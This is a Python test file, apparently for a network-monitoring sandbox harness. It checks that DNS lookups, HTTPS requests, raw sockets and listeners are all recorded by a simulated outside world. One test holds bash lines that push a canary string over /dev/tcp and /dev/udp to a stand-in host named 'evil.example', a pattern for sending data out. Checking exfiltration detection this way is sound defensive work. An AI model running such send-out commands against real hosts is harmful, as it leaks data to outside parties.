"""The world outside is what the network tests take it for: each oracle sees what it must see."""

import errno
import os
import socket
import subprocess
import sys
import time

import harness
import outside_world

CANARY = "CANARY"


def test_names_resolve_by_its_server_alone(out):
    address, address6 = out.host("api.example.com")
    out.resolves("alias.example.com", CNAME=["api.example.com"])
    out.resolves("moves.example.com", sequence=[{"A": ["45.67.113.1"]}, {"A": ["10.77.0.5"]}])
    lookups = {"api.example.com": {address, address6}, "alias.example.com": {address, address6},
               "in-hosts.example": {"45.67.113.9"}}
    for name, addresses in lookups.items():
        found = out.run(["getent", "ahosts", name]).ok().text.split("\n")
        assert {line.split()[0] for line in found if line} == addresses, name
    assert out.run(["getent", "ahosts", "nowhere.example.com"]).code == 2
    moved = [out.run(["getent", "ahostsv4", "moves.example.com"]).text.split()[0]
             for _ in range(3)]
    assert moved == ["45.67.113.1", "10.77.0.5", "10.77.0.5"]
    assert set(out.asked()) == {"api.example.com", "alias.example.com", "nowhere.example.com",
                                "moves.example.com"}
    assert {query["server"] for query in out.queries()} == {outside_world.RESOLVER}


def test_long_answers_come_by_tcp(out):
    out.resolves("many.example.com", A=[f"45.67.113.{number}" for number in range(1, 61)])
    found = out.run(["getent", "ahostsv4", "many.example.com"]).ok().text
    assert len({line.split()[0] for line in found.splitlines()}) == 60
    assert {query["transport"] for query in out.queries()} == {"udp", "tcp"}


def test_https_is_trusted_and_recorded(out, needs):
    needs("curl")
    api = out.https("api.example.com")
    done = out.run(["curl", "-sS", "https://api.example.com/a"],
                   env=os.environ | out.environment()).ok()
    assert done.text == "hello from api.example.com/a\n"
    assert [request["target"] for request in api.requests()] == ["/a"]
    assert out.run(["curl", "-sS", "https://[::1]/"]).code != 0


def test_an_oracle_keeps_every_connection_datagram_and_byte(out):
    evil = out.oracle("evil.example")
    here = out.oracle_at("127.0.0.1", 5432)
    out.run(["bash", "-c", f"""echo {CANARY} > /dev/tcp/{evil.address}/443
        echo {CANARY} > /dev/udp/{evil.address6}/443; : > /dev/tcp/{evil.address}/443
        echo {CANARY} > /dev/tcp/127.0.0.1/5432"""]).ok()
    records = {(one["kind"], one["at"], bytes.fromhex(one["data"])) for one in evil.records()}
    assert records == {("tcp", evil.address, b"CANARY\n"), ("tcp", evil.address, b""),
                       ("udp", evil.address6, b"CANARY\n")}
    assert here.data() == [b"CANARY\n"]
    evil.forget()
    assert evil.records() == []


def test_packets_to_nobody_are_seen_and_lost(out):
    out.tap()
    out.run(["bash", "-c", f"echo {CANARY} > /dev/udp/{outside_world.NOBODY}/53"]).ok()
    seen = [packet for packet in out.packets() if packet["canary"]]
    assert [(packet["protocol"], packet["target"]) for packet in seen] == [
        (socket.IPPROTO_UDP, outside_world.NOBODY)]
    began = time.monotonic()
    done = out.run(["bash", "-c", f": > /dev/tcp/{outside_world.NOBODY}/443"])
    assert os.strerror(errno.ETIMEDOUT) in done.err_text
    assert 2 < time.monotonic() - began < 30


def test_listeners_are_noticed_however_short_their_life(out):
    out.watch_listeners()
    words = [harness.PYTHON, "-c", "import socket, time\nfor kind in (1, 2):\n"
             "  with socket.socket(2, kind) as s:\n    s.bind(('0.0.0.0', 4000 + kind))\n"
             "    kind == 1 and s.listen()\n    time.sleep(0.05)"]
    out.run(words).ok()
    assert out.new_listeners() == [f"tcp 00000000:{4001:04X}", f"udp 00000000:{4002:04X}"]


def test_nobody_stays(out, tmp_path):
    """Processes started in a world end with it, and so does its own when its owner is killed."""
    mark = f"aegis-e2e-stays-{os.getpid()}"
    program = tmp_path / "holder.py"
    program.write_text(
        f"import sys, time\nsys.path[:0] = {sys.path!r}\nimport outside_world\n"
        f"with outside_world.OutsideWorld({str(tmp_path)!r}) as out:\n"
        f"  print(out._helper.pid, flush=True)\n  time.sleep(600)\n")
    with subprocess.Popen([sys.executable, program], stdout=subprocess.PIPE, text=True) as holder:
        pid = int(holder.stdout.readline())
        holder.kill()
    harness.wait_until(lambda: not os.path.exists(f"/proc/{pid}"), "the servers end")
    with outside_world.OutsideWorld(tmp_path) as other:
        other.start(["sleep", "600"], env={"MARK": mark})
    assert not harness.marked_processes(mark)
    assert out.asked() == []
